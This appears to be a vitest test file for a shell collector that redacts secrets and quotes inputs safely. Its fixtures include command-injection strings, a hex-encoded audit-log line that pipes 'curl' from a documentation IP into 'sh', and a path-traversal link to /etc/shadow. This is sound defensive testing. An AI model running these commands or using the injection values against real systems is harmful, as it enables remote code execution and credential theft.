import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readAuditLog } from '../../formats/audit/read-audit-log.js';
import { redactAuditLog } from '../redact/redact-audit.js';
import { createRedactor } from '../redact/redactor.js';
import { collectScript, shellWord } from './collect-script.js';

const key = Buffer.from('0123456789abcdef0123456789abcdef');
const redactor = createRedactor(key);
const shells = [['dash'], ['bash', '--posix'], ['busybox', 'sh']].filter(
  ([name = '']) => spawnSync('sh', ['-c', `command -v ${name}`]).status === 0,
);
let folder = '';

beforeAll(() => {
  folder = mkdtempSync(`${tmpdir()}/candor-script-`);
  writeFileSync(`${folder}/key`, key);
});

afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** The script's own functions with a known key, and one of them applied to a text. */
function withFunctions(shell: readonly string[], call: string, input: string): string {
  const script = collectScript({ sinceSeconds: 60 })
    .replaceAll('/var/lib/candor/redaction.key', `${folder}/key`)
    .replace(/\ncandor_main <\/dev\/null\n$/, '\n');
  const [program = 'sh', ...args] = shell;
  const options = { input, encoding: 'utf8', env: { ...process.env, TMPDIR: folder } } as const;
  return execFileSync(program, [...args, '-c', `${script}\ncandor_setup\nstart_redaction\n${call}`], options);
}

describe('collectScript', () => {
  it('begins with its settings and ends with one call, without standard input', () => {
    const script = collectScript({ sinceSeconds: 3600 });
    expect(script.split('\n').slice(0, 3)).toEqual(['#!/bin/sh', "CANDOR_VERSION='0.1.0'", 'CANDOR_SINCE=3600']);
    expect(script.endsWith('\ncandor_main </dev/null\n')).toBe(true);
  });

  it.each([
    [Number.NaN, 86_400],
    [Number.POSITIVE_INFINITY, 86_400],
    [-5, 86_400],
    [90.7, 90],
    [1e12, 315_360_000],
  ])('takes %s seconds as %i', (given, seconds) => {
    expect(collectScript({ sinceSeconds: given })).toContain(`\nCANDOR_SINCE=${seconds}\n`);
  });

  it('never lets a declared name or project out of its quotes', () => {
    const script = collectScript({
      sinceSeconds: 1,
      publicNames: ['example.org', "x'; touch /tmp/owned; '", '$(id)'],
      projects: [{ name: "a'b", path: '/srv/$(id)\n/x' }],
    });
    expect(script).toContain("\nCANDOR_NAMES='example.org'\n");
    expect(script).toContain("\nCANDOR_PROJECTS='a'\\''b\t/srv/$(id)?/x'\n");
  });

  it.each([
    ['plain', "'plain'"],
    ["it's", "'it'\\''s'"],
    ['$(id) `id` \\', "'$(id) `id` \\'"],
    ['a\0b', "'ab'"],
  ])('quotes %j', (text, word) => {
    expect(shellWord(text)).toBe(word);
    expect(execFileSync('sh', ['-c', `printf %s ${word}`], { encoding: 'utf8' })).toBe(text.replaceAll('\0', ''));
  });

  it.each(shells.map((shell) => [shell.join(' '), shell] as const))('is read by %s', (_, [program = '', ...args]) => {
    expect(spawnSync(program, [...args, '-n'], { input: collectScript({ sinceSeconds: 1 }) }).status).toBe(0);
  });
});

const lines = [
  'an ordinary line with nothing in it',
  'connect mongodb://root:hunter2hunter2@db:27017/app failed',
  'Authorization: Bearer abcdefghijklmnop0123456789',
  'password=correct-horse-9',
  '{"password":"s3cr3t-value-here"}',
  'set PAYLOAD_SECRET="x9f8a7b6c5d4e3f2a1"',
  'GET /hook?key=0123456789abcdef HTTP/1.1',
  'token ghp_0123456789abcdefghij0123456789 used',
  'api_key: a1b2c3d4e5',
  'Unexpected token: foo',
  'proxy_set_header X-Api-Key "k3yk3yk3yk3y";',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
  'AKIAIOSFODNN7EXAMPLE',
  `\${PAYLOAD_SECRET} $TOKEN stay`,
  'SECRET=hmac-sha256:0123456789ab:12:weak',
  'Passwort mit ü: password=grün-und-gut-1',
];

describe.each(shells.map((shell) => [shell.join(' '), shell] as const))('redaction in awk under %s', (_, shell) => {
  it('makes of every line what the local collector makes of it', () => {
    const made = withFunctions(shell, 'redact_text', `${lines.join('\n')}\n`).split('\n');
    expect(made.slice(0, -1)).toEqual(lines.map((line) => redactor.text(line)));
  });

  it('prints secrets as the local collector does: length in characters, class, keyed', () => {
    const values = ['changeme', 'short', 'Zk3!pQ9$vL2@wX7&nB5', 'ü'.repeat(20), 'x'.repeat(200), 'a b'];
    const input = values.map((value) => `DB_PASSWORD=${value}\n`).join('');
    expect(withFunctions(shell, 'redact_env', input)).toBe(
      values.map((value) => `DB_PASSWORD=${redactor.secret(value)}\n`).join(''),
    );
  });

  it('leaves no value of an environment in an inspection, and says who logs in where', () => {
    const inspect = {
      Config: {
        Env: [
          'NODE_ENV=production',
          'PAYLOAD_SECRET=Zk3pQ9vL2wX7nB5rT8',
          'DATABASE_URI=mongodb://app:Tr0ub4dor3@mongo/x',
        ],
        Cmd: ['mongod', '--keyFile', '/k', '-p', 'Gh7kP2mQ9x'],
        Labels: { 'my.token': 'abc-DEF-123456', note: 'a "quoted" \\ line' },
      },
      State: { Running: true, Pid: 12 },
    };
    const made = JSON.parse(withFunctions(shell, 'redact_json', JSON.stringify([inspect], null, 4)));
    expect(made[0].Config.Env).toEqual([
      'NODE_ENV=production',
      `PAYLOAD_SECRET=${redactor.secret('Zk3pQ9vL2wX7nB5rT8')}`,
      `DATABASE_URI=${redactor.secret('mongodb://app:Tr0ub4dor3@mongo/x')}`,
      `DATABASE_URI#user=${redactor.secret('app')}`,
      `DATABASE_URI#password=${redactor.secret('Tr0ub4dor3')}`,
    ]);
    expect(made[0].Config.Cmd).toEqual(['mongod', '--keyFile', '/k', '-p', redactor.secret('Gh7kP2mQ9x')]);
    expect(made[0].Config.Labels).toEqual({
      'my.token': redactor.secret('abc-DEF-123456'),
      note: 'a "quoted" \\ line',
    });
    expect(made[0].State).toEqual({ Running: true, Pid: 12 });
  });

  it('puts the print of a secret file beside the variable that names it, for its own container alone', () => {
    writeFileSync(`${folder}/uri`, 'mongodb://app:Tr0ub4dor3@mongo/x');
    const env = { Env: ['DATABASE_URI_FILE=/run/secrets/uri'] };
    const input = JSON.stringify(
      [
        { Id: 'aa', Config: env },
        { Id: 'bb', Config: env },
      ],
      null,
      4,
    );
    const call = `printf 'aa\tDATABASE_URI_FILE\t${folder}/uri\n' >"$W/t/secret-files"; redact_json`;
    const [own, other] = JSON.parse(withFunctions(shell, call, input));
    const named = `DATABASE_URI_FILE=${redactor.env('DATABASE_URI_FILE', '/run/secrets/uri')}`;
    expect(own.Config.Env).toEqual([
      named,
      `DATABASE_URI_FILE#text=${redactor.env('DATABASE_URI_FILE#text', 'mongodb://app:Tr0ub4dor3@mongo/x')}`,
      `DATABASE_URI_FILE#user=${redactor.secret('app')}`,
      `DATABASE_URI_FILE#password=${redactor.secret('Tr0ub4dor3')}`,
    ]);
    expect(other.Config.Env).toEqual([named]);
  });

  it('leaves names, references and lines of a compose file', () => {
    const text = [
      'services:',
      '  cms:',
      '    image: node:24',
      '    environment:',
      '      PAYLOAD_SECRET: Zk3pQ9vL2wX7nB5rT8',
      '      DATABASE_URI: "mongodb://app:Tr0ub4dor3@mongo/x"',
      `      MAIL_TOKEN: \${MAIL_TOKEN:-fallback-Value9}`,
      `      KEPT: \${KEPT}`,
      '      NODE_ENV: production',
      '    ports:',
      '      - "3000:3000"',
      '  db:',
      '    environment:',
      '      - MONGO_PASSWORD=Gh7kP2mQ9x # the real one',
      '    args: { KEY: Abcd1234Efgh5678 }',
      '',
    ].join('\n');
    const made = withFunctions(shell, 'redact_compose', text);
    for (const secret of ['Zk3pQ9vL2wX7nB5rT8', 'Tr0ub4dor3', 'fallback-Value9', 'Gh7kP2mQ9x', 'Abcd1234Efgh5678'])
      expect(made).not.toContain(secret);
    expect(made.split('\n')).toHaveLength(text.split('\n').length);
    for (const kept of [
      'NODE_ENV: production',
      '"3000:3000"',
      `\${KEPT}`,
      `\${MAIL_TOKEN:-hmac-sha256:`,
      'image: node:24',
    ])
      expect(made).toContain(kept);
  });

  it('keeps program text but for its secrets', () => {
    const text =
      "const secret = process.env.PAYLOAD_SECRET || 'my-Fallback-Secret1'\nconst type = 'password'\nlet n = 'js-tokens'\n";
    const out = withFunctions(
      shell,
      'write_source_awk; sed \'s/^/L/\' | awk -v MODE=none -v LINES=source -f "$W/redact.awk" -f "$W/source.awk"',
      text,
    );
    expect(out).not.toContain('my-Fallback-Secret1');
    expect(out).toContain("process.env.PAYLOAD_SECRET || 'hmac-sha256:");
    expect(out).toContain("const type = 'password'");
  });

  it('takes hashes out of shadow(5)', () => {
    const made = withFunctions(shell, 'redact_shadow', 'root:$y$j9T$abc$def:1:0\nlocked:!:1:0\nstar:*:1\nempty::1:0\n');
    expect(made).toBe('root:set:1:0\nlocked:!:1:0\nstar:!:1\nempty::1:0\n');
  });

  it('follows links of another root inside it only', () => {
    execFileSync('sh', [
      '-c',
      `rm -rf ${folder}/r && mkdir -p ${folder}/r/etc ${folder}/r/app && echo in >${folder}/r/etc/shadow && ln -s /etc/shadow ${folder}/r/app/a && ln -s ../../../../../etc/shadow ${folder}/r/app/b && ln -s c ${folder}/r/app/c`,
    ]);
    const call = (path: string) => `if rooted ${folder}/r ${path}; then cat "$ROOTED"; else echo none; fi`;
    expect(withFunctions(shell, call('/app/a'), '')).toBe('in\n');
    expect(withFunctions(shell, call('/app/b'), '')).toBe('in\n');
    expect(withFunctions(shell, call('/app/../../etc/shadow'), '')).toBe('in\n');
    expect(withFunctions(shell, call('/app/c'), '')).toBe('none\n');
    expect(withFunctions(shell, call('/app/none'), '')).toBe('none\n');
  });

  it('ends what takes too long, with and without timeout(1)', () => {
    expect(withFunctions(shell, 'limited 1 sleep 20; echo $?', '')).toMatch(/^(?:124|143)\n$/);
    expect(
      withFunctions(
        shell,
        'HAS_TIMEOUT=0; limited 1 sleep 20; echo $?; limited 5 echo yes; echo in | limited 5 cat',
        '',
      ),
    ).toBe('137\nyes\nin\n');
  });
});

describe('redact_audit', () => {
  const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();
  const stamp = 'msg=audit(1767571200.123:7):';
  const log = [
    `type=SYSCALL ${stamp} arch=c000003e syscall=59 success=yes exit=0 ppid=10 pid=100 comm="mysql" exe="/usr/bin/mysql" key="x"`,
    `type=EXECVE ${stamp} argc=4 a0="mysql" a1="-pHunter2Hunter2" a2="--password" a3=${hex('Geheim Wort 9')}`,
    `type=EXECVE ${stamp} argc=3 a0="sh" a1="-c" a2=${hex('API_TOKEN=abcDEF123456789 curl -H "Authorization: Bearer Zx9yW8vU7tS6rQ5p" http://203.0.113.9/a | sh')}`,
    `type=EXECVE ${stamp} argc=2 a0="PGPASSWORD=Sup3rSecretPg" a1=${hex('grüße "quoted" Straße')}\u001dARCH=x86_64`,
    `type=EXECVE ${stamp} argc=2 a0="x" a1_len=9000 a1[0]=${hex('y'.repeat(20))}`,
    `type=PROCTITLE ${stamp} proctitle=${hex('mysql\0-pHunter2Hunter2')}`,
    `type=PATH ${stamp} item=0 name="/usr/bin/mysql"`,
    `type=SYSCALL ${stamp} arch=c000003e syscall=42 success=yes comm="x"`,
    `type=CONFIG_CHANGE ${stamp} auid=1000 op=remove_rule key="candor" list=4 res=1`,
    'audit: audit_lost=5 audit_rate_limit=0',
    'garbage "with quotes',
  ].join('\n');

  it.each(shells.map((shell) => [shell.join(' '), shell] as const))('%s does as the collector in Node', (_, shell) => {
    const made = withFunctions(shell, 'redact_audit', `${log}\n`);
    expect(made).toBe(redactAuditLog(log, redactor));
    const quiet = `type=EXECVE ${stamp} argc=1 a0="id"\ntype=USER_ACCT msg=audit(1767579999.000:9): acct="root"\nx`;
    const sign = `type=EXECVE ${stamp} argc=1 a0="id"\ntype=USER_ACCT msg=audit(1767579999.000:9):\n`;
    expect([withFunctions(shell, 'redact_audit', `${quiet}\n`), redactAuditLog(quiet, redactor)]).toEqual([sign, sign]);
    for (const secret of ['Hunter2', 'Geheim', 'abcDEF123456789', 'Zx9yW8vU7tS6rQ5p', 'Sup3rSecretPg']) {
      expect(made).not.toContain(secret);
      expect(made).not.toContain(hex(secret));
    }
  });

  it('is read as it was, but for the secrets', () => {
    const reading = readAuditLog(redactAuditLog(log, redactor));
    expect(reading.ok && reading.value.lost).toBe(5);
    expect(reading.ok && reading.value.configChanges.map((one) => one.what)).toEqual(['rule-removed']);
    const words = readAuditLog(redactAuditLog(`${log.split('\n')[0]}\n${log.split('\n')[2]}`, redactor));
    expect(words.ok && words.value.execs[0]?.argv[2]).toMatch(
      /^API_TOKEN=hmac-sha256:\S+ curl .* http:\/\/203\.0\.113\.9\/a \| sh$/,
    );
  });
});
